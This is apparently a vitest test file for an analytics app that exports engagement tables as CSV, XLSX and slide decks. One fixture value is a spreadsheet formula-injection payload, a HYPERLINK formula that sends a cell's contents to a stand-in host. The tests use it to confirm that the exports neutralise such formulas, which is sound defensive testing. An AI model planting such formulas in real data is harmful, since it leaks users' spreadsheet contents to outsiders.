/**
 * Every vendor's convention as a data file and as deck slides, on a real DuckDB file: the rows are the channel's
 * numbers, each column's source is cited (below the CSV rows, on the Methodology sheet, on the slide and in its
 * notes), and a page name written as a formula stays text in the CSV.
 */
import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import ExcelJS from 'exceljs'
import JSZip from 'jszip'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { inputs, type Input } from '../../../shared/contract'
import { VENDOR_COLUMNS, VENDOR_CONVENTIONS } from '../../../shared/vendorConventions'
import { Database } from '../db/duckdb'
import { migrate } from '../db/migrations'
import { FIXTURE_SCOPE, loadMetricsFixture } from '../metrics/fixture.testdata'
import { vendorConventions } from '../metrics/vendorConventions'
import { exportDeck, exportInsightData } from './handlers'

const ATTACK = '=HYPERLINK("http://x/?leak="&A2,"click")'
let db: Database
let dir = ''
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'sb-insight-export-'))
  db = await Database.open(join(dir, 'workspace.duckdb'))
  await migrate(db)
  await loadMetricsFixture(db)
  await db.run(`UPDATE institutions SET name = $1 WHERE institution_id = 2`, [ATTACK])
})
afterAll(async () => {
  db.close()
  await rm(dir, { recursive: true, force: true })
})

const request: Input<'benchmark'> = {
  institutionIds: FIXTURE_SCOPE.institutionIds,
  preset: 'custom',
  from: FIXTURE_SCOPE.from,
  to: FIXTURE_SCOPE.to,
  convention: 'followers_at_post'
}
const URLS = [...new Set(VENDOR_COLUMNS.map((k) => VENDOR_CONVENTIONS[k].source.url))]

describe('vendor conventions exported', () => {
  it('CSV: the channel’s rows and medians, formula-safe names, then each column’s source', async () => {
    const file = await exportInsightData(
      db,
      inputs.exportInsightData.parse({ request, tableId: 'vendorConventions', format: 'csv' })
    )
    expect(file.fileName).toBe(
      'engagement-conventions_Alpha-HYPERLINK-http-x-leak-A2-click-Gamma_2024-01-01_2024-01-14.csv'
    )
    expect(file.mime).toBe('text/csv')
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(file.bytes)
    expect(text.startsWith('\ufeff')).toBe(true)
    const lines = text.slice(1).split('\r\n')
    expect(lines[0]).toBe(
      'platform,institution,posts,rivaliq_rate,socialinsider_rate,fanpagekarma_rate,reach_rate,impressions_rate,views_rate'
    )
    const c = await db.withConnection((conn) => vendorConventions(conn, request))
    const expected = c.tables.flatMap((t) => [
      ...t.rows.map((r) => [
        t.platform,
        r.name,
        String(r.posts),
        ...VENDOR_COLUMNS.map((k) => (r[k] === null ? '' : String(r[k])))
      ]),
      [
        t.platform,
        'median across institutions',
        '',
        ...VENDOR_COLUMNS.map((k) => (t.median[k] === null ? '' : String(t.median[k])))
      ]
    ])
    const body = lines.slice(1, 1 + expected.length)
    // The attack is quoted (it holds quotes and a comma) and starts with the neutralising apostrophe.
    expect(body.find((l) => l.includes('HYPERLINK'))).toMatch(/^x,"'=HYPERLINK\(""http/)
    const plain = body.map((l) => l.replace(/"'=HYPERLINK.*?click""\)"/, 'ATTACK').split(','))
    expect(plain).toEqual(expected.map((r) => r.map((v) => (v === ATTACK ? 'ATTACK' : v))))
    // x: Alpha, the attack, Gamma and the median; facebook: Alpha and the median (hand count of the fixture).
    expect(expected.map((r) => r[0])).toEqual(['facebook', 'facebook', 'x', 'x', 'x', 'x'])
    expect(lines[1 + expected.length]).toBe('')
    expect(lines[2 + expected.length]).toBe('column,vendor,formula,source')
    for (const u of URLS) expect(text).toContain(u)
  })

  it('XLSX: the same rows, and a Methodology sheet citing every vendor’s definition', async () => {
    const file = await exportInsightData(db, { request, tableId: 'vendorConventions', format: 'xlsx' })
    expect(file.fileName.endsWith('.xlsx')).toBe(true)
    const wb = new ExcelJS.Workbook()
    await wb.xlsx.load(file.bytes as never)
    expect(wb.worksheets.map((w) => w.name)).toEqual(['Engagement under every vendor’s', 'Methodology'])
    expect(wb.worksheets[0].getCell('B4').value).toBe(ATTACK) // a string cell, not a formula
    const notes = wb.worksheets[1].getColumn(1).values.join('\n')
    for (const k of VENDOR_COLUMNS)
      expect(notes).toContain(`${VENDOR_CONVENTIONS[k].label}: ${VENDOR_CONVENTIONS[k].formula}`)
    for (const u of URLS) expect(notes).toContain(u)
  })

  it('deck: one native table slide per platform, sources on the slide and definitions in the notes', async () => {
    const deck = await exportDeck(
      db,
      inputs.exportDeck.parse({
        request,
        aspect: '16:9',
        slides: [{ tableId: 'vendorConventions' }, { chartId: 'shareOfVoice' }]
      })
    )
    // Title, facebook and x tables, the share-of-voice image and its editable chart.
    expect(deck.slides).toBe(5)
    const zip = await JSZip.loadAsync(deck.bytes)
    const slide = (n: number) => zip.file(`ppt/slides/slide${n}.xml`)!.async('string')
    const [fb, x] = [await slide(2), await slide(3)]
    expect(fb).toContain('<a:tbl>')
    expect(fb).toContain('Engagement under every vendor’s convention · facebook')
    expect(x).toContain('Engagement under every vendor’s convention · x')
    for (const h of ['Rival IQ', 'Socialinsider', 'Fanpage Karma', 'By reach', 'Median across institutions'])
      expect(x).toContain(h)
    expect(x).toContain('=HYPERLINK(&quot;http://x/?leak=&quot;&amp;A2,&quot;click&quot;)')
    // Alpha's x post: 30 interactions, 1,000 impressions → 3.000% by impressions (hand-computed).
    expect(x).toContain('3.000%')
    for (const u of URLS) expect(x).toContain(u)
    const notes = await zip.file('ppt/notesSlides/notesSlide3.xml')!.async('string')
    for (const k of VENDOR_COLUMNS) expect(notes).toContain(VENDOR_CONVENTIONS[k].source.url)
    expect(notes).toContain('per day, the interactions of the posts published that day')
  })

  it('refuses an unknown table', () => {
    expect(inputs.exportInsightData.safeParse({ request, tableId: 'spikes', format: 'csv' }).success).toBe(false)
    expect(
      inputs.exportDeck.safeParse({
        request,
        aspect: '16:9',
        slides: [{ tableId: 'vendorConventions', chartId: 'heatmap' }]
      }).success
    ).toBe(false)
  })
})
